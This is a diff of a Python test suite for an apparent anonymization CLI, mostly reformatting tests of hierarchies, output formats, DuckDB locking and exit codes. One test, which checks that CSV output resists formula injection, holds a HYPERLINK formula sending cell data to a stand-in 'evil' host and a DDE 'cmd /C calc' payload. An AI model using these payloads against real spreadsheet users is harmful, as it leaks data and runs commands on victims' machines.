@@ -1,5 +1,6 @@
 """What a data owner reads: level labels, the hierarchy command, output formats, stable column types, exit
 codes, URLs, NULLs in generated hierarchies, and a DuckDB file held by another process."""
+
 from __future__ import annotations
 
 import csv
@@ -36,9 +37,14 @@ def test_results_name_each_level_with_a_few_labels(tmp_path: Path):
 
 
 def test_hierarchy_command_prints_file_and_generated_hierarchies(tmp_path: Path):
-    config = write_config(tmp_path, quasi_identifiers={"sex": {"hierarchy": "hierarchies/sex.csv"},
-                                                       "age": {"generate": "intervals", "widths": [10, 20]},
-                                                       "race": {"hierarchy": "hierarchies/race.csv"}})
+    config = write_config(
+        tmp_path,
+        quasi_identifiers={
+            "sex": {"hierarchy": "hierarchies/sex.csv"},
+            "age": {"generate": "intervals", "widths": [10, 20]},
+            "race": {"hierarchy": "hierarchies/race.csv"},
+        },
+    )
     result = run("hierarchy", str(config), "age", "--format", "csv")
     assert result.exit_code == 0, result.output
     rows = list(csv.reader(io.StringIO(result.stdout)))
@@ -57,25 +63,42 @@ def test_hierarchy_command_prints_file_and_generated_hierarchies(tmp_path: Path)
 def test_csv_output_is_safe_to_open_in_a_spreadsheet(tmp_path: Path):
     """Hierarchy labels are data: a label that starts like a formula (=, +, -, @, a tab) is written with a
     leading apostrophe, so a spreadsheet shows it as text instead of running it; plain numbers stay numbers."""
-    config = write_config(tmp_path, quasi_identifiers={"sex": {"hierarchy": "hierarchies/sex.csv"},
-                                                       "age": {"generate": "intervals", "widths": [10, 20]}})
-    (tmp_path / "hierarchies" / "sex.csv").write_text(
-        'Male;=HYPERLINK("http://evil/?x="&A1);*\nFemale;@SUM(1+1);*\n')
-    cells = [cell for line in csv.reader(io.StringIO(run("hierarchy", str(config), "--format", "csv").stdout))
-             for cell in line]
-    assert "'=HYPERLINK(\"http://evil/?x=\"&A1)" in cells and "'@SUM(1+1)" in cells
+    config = write_config(
+        tmp_path,
+        quasi_identifiers={
+            "sex": {"hierarchy": "hierarchies/sex.csv"},
+            "age": {"generate": "intervals", "widths": [10, 20]},
+        },
+    )
+    (tmp_path / "hierarchies" / "sex.csv").write_text('Male;=HYPERLINK("http://evil/?x="&A1);*\nFemale;@SUM(1+1);*\n')
+    cells = [
+        cell
+        for line in csv.reader(io.StringIO(run("hierarchy", str(config), "--format", "csv").stdout))
+        for cell in line
+    ]
+    assert '\'=HYPERLINK("http://evil/?x="&A1)' in cells and "'@SUM(1+1)" in cells
     assert not any(cell[:1] in "=+@\t" for cell in cells if cell)
     assert "[30,40)" in cells  # other labels as they are
     from sqlanon.cli import _cell
-    assert [_cell(v) for v in ("-5", "+1.5e3", "-", "-cmd|' /C calc'!A0", 7, None)] == \
-        ["-5", "+1.5e3", "'-", "'-cmd|' /C calc'!A0", 7, ""]  # numbers stay numbers
+
+    assert [_cell(v) for v in ("-5", "+1.5e3", "-", "-cmd|' /C calc'!A0", 7, None)] == [
+        "-5",
+        "+1.5e3",
+        "'-",
+        "'-cmd|' /C calc'!A0",
+        7,
+        "",
+    ]  # numbers stay numbers
 
 
 def test_generated_hierarchies_map_nulls_with_a_label(tmp_path: Path):
     with_holes(tmp_path, "age", "race = 'Other'")
     source = {"url": "duckdb:///adult.duckdb", "table": "holes"}
-    qis = {"sex": {"hierarchy": "hierarchies/sex.csv"}, "age": {"generate": "intervals", "widths": [10, 20]},
-           "race": {"hierarchy": "hierarchies/race.csv"}}
+    qis = {
+        "sex": {"hierarchy": "hierarchies/sex.csv"},
+        "age": {"generate": "intervals", "widths": [10, 20]},
+        "race": {"hierarchy": "hierarchies/race.csv"},
+    }
     config = write_config(tmp_path, source=source, output={"table": "holes_anon"}, quasi_identifiers=qis)
     _expect_error(tmp_path, config, "add `null: LABEL` to its generate options")
     qis["age"]["null"] = "unknown"
@@ -110,9 +133,13 @@ def test_a_generalized_column_has_one_type_whatever_the_node(tmp_path: Path):
         assert result.exit_code == 0, result.output
         engine = sa.create_engine(f"duckdb:///{tmp_path / 'adult.duckdb'}")
         with engine.connect() as conn:
-            types |= {tuple(r) for r in conn.exec_driver_sql(
-                "SELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'adult_anon' "
-                "AND column_name IN ('age', 'sex', 'race')")}
+            types |= {
+                tuple(r)
+                for r in conn.exec_driver_sql(
+                    "SELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'adult_anon' "
+                    "AND column_name IN ('age', 'sex', 'race')"
+                )
+            }
         engine.dispose()
     assert types == {("age", "VARCHAR"), ("sex", "VARCHAR"), ("race", "VARCHAR")}
 
@@ -153,22 +180,40 @@ def test_a_duckdb_file_held_by_another_process_names_it_and_its_progress(tmp_pat
     that holds it, but not a stale one (another process's, or of a run no longer running)."""
     config = write_config(tmp_path)
     database = tmp_path / "adult.duckdb"
-    holder = subprocess.Popen([sys.executable, "-c", textwrap.dedent(f"""
+    holder = subprocess.Popen(
+        [
+            sys.executable,
+            "-c",
+            textwrap.dedent(f"""
         import sys, time, duckdb
         held = duckdb.connect({str(database)!r})
         print("ready", flush=True)
         time.sleep(60)
-    """)], stdout=subprocess.PIPE, text=True)
+    """),
+        ],
+        stdout=subprocess.PIPE,
+        text=True,
+    )
     messages = []
     try:
         assert holder.stdout.readline().strip() == "ready"
         for pid, status in ((holder.pid, "running"), (1, "running"), (holder.pid, "finished")):
-            (tmp_path / "adult.duckdb.sqlanon-run.json").write_text(json.dumps(
-                {"run_id": 7, "status": status, "pid": pid, "updated_at": "2026-01-01 00:00:00 UTC", "iteration": 3,
-                 "nodes_checked": 42}))
+            (tmp_path / "adult.duckdb.sqlanon-run.json").write_text(
+                json.dumps(
+                    {
+                        "run_id": 7,
+                        "status": status,
+                        "pid": pid,
+                        "updated_at": "2026-01-01 00:00:00 UTC",
+                        "iteration": 3,
+                        "nodes_checked": 42,
+                    }
+                )
+            )
             # another process too: within one process DuckDB shares an open file between connections
-            result = subprocess.run([sys.executable, "-m", "sqlanon", "search", str(config)], capture_output=True,
-                                    text=True)
+            result = subprocess.run(
+                [sys.executable, "-m", "sqlanon", "search", str(config)], capture_output=True, text=True
+            )
             assert result.returncode == 2, result.stdout + result.stderr
             messages.append(result.stderr)
     finally:
@@ -242,14 +287,19 @@ def test_duckdb_memory_limit_and_spill_folder_from_the_job_or_the_command_line(t
     db.dispose()
     assert limit.startswith("286") and spill == str(tmp_path / "spill")  # 300 MB = 286.1 MiB
     assert default_memory_limit().endswith("MB")
-    config = write_config(tmp_path, source={"url": "duckdb:///adult.duckdb", "table": "adult",
-                                            "csv": str(Path(__file__).parent.parent / "sqlanon" / "data" / "adult"
-                                                       / "adult.csv.gz"),
-                                            "csv_options": {"delimiter": ";"}, "memory_limit": "lots"})
+    config = write_config(
+        tmp_path,
+        source={
+            "url": "duckdb:///adult.duckdb",
+            "table": "adult",
+            "csv": str(Path(__file__).parent.parent / "sqlanon" / "data" / "adult" / "adult.csv.gz"),
+            "csv_options": {"delimiter": ";"},
+            "memory_limit": "lots",
+        },
+    )
     assert "source.memory_limit 'lots' is not a memory size" in run("search", str(config)).stderr
     config = write_config(tmp_path)
-    result = run("search", str(config), "--memory-limit", "256MB", "--temp-directory", str(tmp_path / "t"),
-                 "--json")
+    result = run("search", str(config), "--memory-limit", "256MB", "--temp-directory", str(tmp_path / "t"), "--json")
     assert result.exit_code == 0 and (tmp_path / "t").is_dir()
     assert run("search", str(config), "--memory-limit", "much").exit_code == 2
 
@@ -263,5 +313,4 @@ def test_a_database_error_exits_2_in_one_line(tmp_path: Path, monkeypatch):
     monkeypatch.setattr(sqlanon.cli, "search", failing)
     result = run("search", str(write_config(tmp_path)))
     assert result.exit_code == 2
-    assert result.stderr.strip() == ("database error: server closed the connection (rerun with --debug for "
-                                     "details)")
+    assert result.stderr.strip() == ("database error: server closed the connection (rerun with --debug for details)")
